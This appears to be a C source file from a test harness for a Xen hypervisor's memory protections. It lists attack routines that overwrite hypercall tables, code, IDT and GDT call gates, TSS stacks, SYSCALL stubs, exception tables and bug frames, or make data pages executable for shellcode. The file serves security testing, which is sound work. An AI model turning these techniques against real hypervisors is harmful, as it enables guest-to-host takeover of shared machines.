/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Memory that must not change after boot: tables, code, constants, page tables, descriptors, generated code. The
 * attacks write through whatever mapping lets them, and prove the change by making the hypervisor go where it says.
 */
#include "attacker.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#define GATE_SIZE 16
#define BREAKPOINT 3
#define CALL_GATE_SELECTOR 0xe7f0 /* the last descriptor of the hypervisor's page of the GDT */
#define GDT_PAGE 0xe000
#define GUEST_SELECTOR 0x800 /* free in Linux's page of the GDT */
#define TSS_RING0 4 /* offset of the stack for ring 0 */
#define FRAME_SIZE 40 /* RIP, CS, RFLAGS, RSP, SS */
#define PORT 0x80
#define EMULATOR_STUB 64 /* where the emulator's half of a CPU's stub begins */

static void table_directmap(void) { poke(directmap(jump_slot()), won()); cause(CAUSE_OPS, 0); }

static void table_fresh_mapping(void)
{
    word slot = jump_slot();
    word page = cause(CAUSE_MAP, physical(slot) >> 12);

    poke(page + (slot & 4095), won());
    cause(CAUSE_OPS, 0);
}

/* Makes the mapping itself writable, and then writes in place. */
static void make_writable(word at)
{
    word entry = entry_of(at);

    poke(entry, peek(entry) | WRITABLE);
    cause(CAUSE_RELOAD_CR3, 0);
}

static void table_entry(void)
{
    word slot = jump_slot();

    make_writable(slot);
    poke(slot, won());
    cause(CAUSE_OPS, 0);
}

/* The frame behind the table is exchanged for one of the attacker's. */
static void table_remap(void)
{
    word slot = jump_slot(), entry = entry_of(slot), page = heap_pages(0), i;
    word first = slot & ~4095UL;

    for ( i = 0; i < 512; i++ )
        poke(page + 8 * i, peek(first + 8 * i));
    poke(page + (slot & 4095), won());
    poke(entry, physical(page) | (peek(entry) & ~0x000ffffffffff000UL));
    cause(CAUSE_RELOAD_CR3, 0);
    cause(CAUSE_OPS, 0);
}

/*
 * In 4.17 hypercalls go by a switch. Its table is the first one whose address the dispatcher takes: of distances to the
 * places in plain builds, of their addresses in protected ones. The write itself is the next hypercall.
 */
static void hypercall_table(void)
{
    word at = code("pv_hypercall"), first = data("__2M_rodata_start"), end = code("__2M_init_start"), table = 0, alias, i;

    for ( ; table < first || table >= end; at++ )
    {
        word bytes = peek(at);

        if ( at > code("pv_hypercall") + 0x400 )
            fail("no table in pv_hypercall");
        if ( (bytes & 0xc7fffb) == 0x058d48 ) /* lea distance(%rip), any register */
            table = at + 7 + (int)(bytes >> 24);
    }
    alias = directmap(table);
    for ( i = 0; i < 64; i++ )
        if ( has_gate() )
            poke(alias + 8 * i, won());
        else
            poke4(alias + 4 * i, won() - table);
}

static void const_ops(void)
{
    poke(directmap(data("attack_const_ops") + 8), pointer(POINTER_ALIEN));
    cause(CAUSE_OPS, 0);
}

static void code_directmap(void) { write_jump(directmap(code("attack_ops_second")), won()); cause(CAUSE_OPS, 0); }

static void code_fresh_mapping(void)
{
    word at = code("attack_ops_second");
    word page = cause(CAUSE_MAP, physical(at) >> 12);

    write_jump(page + (at & 4095), won());
    cause(CAUSE_OPS, 0);
}

static void code_entry(void)
{
    word at = code("attack_ops_second");

    make_writable(at);
    write_jump(at, won());
    cause(CAUSE_OPS, 0);
}

/* Code of the attacker's in a page of data; the slot of the table leads there. */
static void shellcode(word page)
{
    word last = entry_of(page), entry;
    int shift = 39;

    write_jump(page, won());
    do {
        entry = entry_at(fact(FACT_CR3, 0), page, shift);
        poke(entry, peek(entry) & ~NO_EXECUTE);
        shift -= 9;
    } while ( entry != last );
    cause(CAUSE_RELOAD_CR3, 0);
    poke(directmap(jump_slot()), page);
    cause(CAUSE_OPS, 0);
}

static void shellcode_heap(void) { shellcode(heap_pages(0)); }
static void shellcode_data(void) { shellcode(data("attack_data_page")); }
static void shellcode_stack(void) { shellcode((fact(FACT_GUEST_FRAME, 0) & ~(PAGE - 1)) - PAGE); }

static void breakpoint(void) { asm volatile ("int3"); }

static void write_gate(word gate, word target)
{
    poke4(gate, (peek(gate) & 0xffff0000UL) | (target & 0xffff));
    poke4(gate + 4, (peek(gate + 4) & 0xffff) | (target & 0xffff0000UL));
    poke4(gate + 8, target >> 32);
}

static void idt_gate(void)
{
    write_gate(peek(data("idt_tables")) + BREAKPOINT * GATE_SIZE, won());
    breakpoint();
}

static void idt_directmap(void)
{
    write_gate(directmap(peek(data("idt_tables")) + BREAKPOINT * GATE_SIZE), won());
    breakpoint();
}

static void write_call_gate(word gate, word target)
{
    poke(gate, (target & 0xffff) | XEN_CS << 16 | 0xecUL << 40 | (target >> 16 & 0xffff) << 48);
    poke(gate + 8, target >> 32);
}

/* A call gate into the hypervisor that any guest program can use. */
static void gdt_gate(void)
{
    struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, CALL_GATE_SELECTOR | 3 };

    write_call_gate(peek(per_cpu("gdt", 0)) + (CALL_GATE_SELECTOR - GDT_PAGE), won());
    asm volatile ("lcall *%0" : : "m" (far) : "memory");
}

/* The guest's own descriptors lie in a page of its own, which the hypervisor has made read-only for it. */
static void guest_gdt(void)
{
    struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, GUEST_SELECTOR | 3 };
    struct { unsigned short limit; word base; } __attribute__((packed)) gdt;
    word gate;

    asm volatile ("sgdt %0" : "=m" (gdt));
    gate = directmap(gdt.base + GUEST_SELECTOR);
    write_call_gate(gate, won());
    asm volatile ("lcall *%0" : : "m" (far) : "memory");
}

/* Behind the guest's descriptors the hypervisor maps its own, by an entry from memory, whenever the guest comes back. */
static void gdt_mapping(void)
{
    struct { unsigned int offset; unsigned short selector; } __attribute__((packed)) far = { 0, CALL_GATE_SELECTOR | 3 };
    word page = heap_pages(0);

    copy_words(page, peek(per_cpu("gdt", 1)), PAGE / 8);
    write_call_gate(page + (CALL_GATE_SELECTOR - GDT_PAGE), won());
    poke(per_cpu("gdt_l1e", 1), physical(page) | NO_EXECUTE | ACCESSED_DIRTY | PRESENT);
    cause(CAUSE_SAVE_CONTEXT, 1);
    on_cpu(1);
    asm volatile ("lcall *%0" : : "m" (far) : "memory");
}

/* Exceptions of guests then run on a stack of the attacker's, at whose end stands what their entry loads CR3 from. */
static void tss_stack(void)
{
    word rip = fact(FACT_GUEST_FRAME, 0), inside = stack_size() - 1, stack = forged_stack(rip & ~inside, "do_int3");

    poke(fact(FACT_TSS, 0) + TSS_RING0, stack + (rip & inside) + FRAME_SIZE);
    breakpoint();
}

/* SYSCALL enters on the guest's stack. All at once, as this very hypercall comes that way: jmp to within 2 GiB. */
static void syscall_stub(void)
{
    word stub = peek(per_cpu("stubs", 0));

    poke(directmap(stub), 0xe9 | ((won_anywhere() - (stub + 5)) & 0xffffffff) << 8);
    pause_ms(10);
}

/* The kernel reads a port, which it may not do itself. */
static void port_io(int times)
{
    int ports = open("/dev/port", O_RDONLY | O_CLOEXEC);
    char value;

    while ( times-- )
        if ( pread(ports, &value, 1, PORT) != 1 )
            fail("/dev/port: %s", strerror(errno));
    close(ports);
}

/* The per-CPU address of generated code lies in writable memory; port I/O of dom0 runs through it. */
static void stub_address(void)
{
    poke(per_cpu("stubs", 0), won() - EMULATOR_STUB);
    port_io(1);
}

static void exception_table(void)
{
    word at = directmap(data("__start___ex_table")), end = at + data("__stop___ex_table") - data("__start___ex_table");
    word linked = data("__start___ex_table") + 4;

    for ( ; at < end; at += 8, linked += 8 )
        poke4(at + 4, won() - linked);
    cause(CAUSE_FAULT, 0);
}

/* A bug frame: 24 bits of displacement to the place, 24 to the function, each with 8 bits of a line number. */
static void bug_frame(void)
{
    word at = data("__start_bug_frames"), end = data("__stop_bug_frames_0"), alias = directmap(at);

    for ( ; at < end; at += 8, alias += 8 )
        poke4(alias + 4, (peek(alias + 4) & 0xff000000) | ((won() - at) & 0xffffff));
    cause(CAUSE_STATE_DUMP, 0);
}

/* The hypervisor frees the memory of its boot-time functions. A page of the attacker's comes back in its place. */
static void fill_init(word stale)
{
    word page = heap_pages(0), root = fact(FACT_CR3, 0), entry = entry_at(root, stale, 21);

    write_jump(page + (stale & (PAGE - 1)), won());
    if ( (peek(entry) & (PRESENT | LARGE)) == PRESENT )
        poke(entry_at(root, stale, 12), physical(page) | ACCESSED_DIRTY | PRESENT);
    else
    {
        word table = heap_pages(0);

        poke(table, physical(page) | ACCESSED_DIRTY | PRESENT);
        poke(entry, physical(table) | ACCESSED_DIRTY | WRITABLE | PRESENT);
    }
}

static void init_reuse(void)
{
    fill_init(code("__2M_init_start"));
    poke(data("attack_call"), code("__2M_init_start"));
    cause(CAUSE_CALL, 0);
}

/* What was written down for such a function is still known. Where it is an index, nothing needs to lie there. */
static void init_pointer(void)
{
    if ( !has_gate() )
        fill_init(code("attack_init_call"));
    poke(data("attack_call"), pointer(POINTER_INIT));
    cause(CAUSE_CALL, 0);
}

/*
 * The stub of the next port I/O is changed while it is being made, wherever that is done: a jump to within 2 GiB, in one
 * word, so that no half of it is seen.
 */
static void stub_content_race(void)
{
    word stub = peek(per_cpu("stubs", 0)) + EMULATOR_STUB, draft = directmap_of(peek(per_cpu("stubs", 0) + 8) << 12);
    word jump = 0xe9 | ((won() - (stub + 5)) & 0xffffffff) << 8;

    hammer(0, draft + (stub & (PAGE - 1)), jump, jump);
    hold_other_cpu(CAUSE_HAMMER);
    port_io(1000);
    release_other_cpu();
}

const struct attack memory_attacks[] = {
    { "table-directmap", "a slot of a call's table is overwritten through the directmap", table_directmap },
    { "table-fresh-mapping", "a slot of a call's table is overwritten through a fresh mapping of its frame", table_fresh_mapping },
    { "table-entry", "the page of a call's table is made writable by its page-table entry", table_entry },
    { "table-remap", "the page-table entry of a call's table leads to a changed copy", table_remap },
    { "hypercall-table", "the table by which hypercalls are dispatched is overwritten through the directmap", hypercall_table },
    { "const-ops", "a constant operations table is overwritten through the directmap", const_ops },
    { "code-directmap", "code is overwritten through the directmap", code_directmap },
    { "code-fresh-mapping", "code is overwritten through a fresh mapping of its frame", code_fresh_mapping },
    { "code-entry", "a page of code is made writable by its page-table entry", code_entry },
    { "shellcode-heap", "a page of the heap is made executable and called", shellcode_heap },
    { "shellcode-data", "a page of data is made executable and called", shellcode_data },
    { "shellcode-stack", "a page of a stack is made executable and called", shellcode_stack },
    { "idt-gate", "the gate of a guest's breakpoints leads elsewhere", idt_gate },
    { "idt-directmap", "the gate of a guest's breakpoints is overwritten through the directmap", idt_directmap },
    { "gdt-gate", "the GDT gets a call gate into the hypervisor for every guest program", gdt_gate },
    { "guest-gdt", "a PV guest's own GDT gets a call gate into the hypervisor", guest_gdt },
    { "gdt-mapping", "the hypervisor maps a page with a call gate in it as its GDT, by an entry that was changed", gdt_mapping },
    { "tss-stack", "the stack of the TSS becomes one of the attacker's, whose end names forged page tables", tss_stack },
    { "syscall-stub", "the code that SYSCALL enters is overwritten through the directmap", syscall_stub },
    { "stub-address", "the per-CPU address of generated code becomes another one", stub_address },
    { "stub-content-race", "generated code is changed by the other CPU while it is being made", stub_content_race },
    { "exception-table", "the exception table sends a caught fault elsewhere", exception_table },
    { "bug-frame", "a bug frame, which says where a trap instruction leads, is overwritten", bug_frame },
    { "init-reuse", "freed memory of boot-time functions is mapped again, executable, and called by a stale address", init_reuse },
    { "init-pointer", "a freed function of boot time is called by what the program wrote down for it", init_pointer },
    { 0 }
};
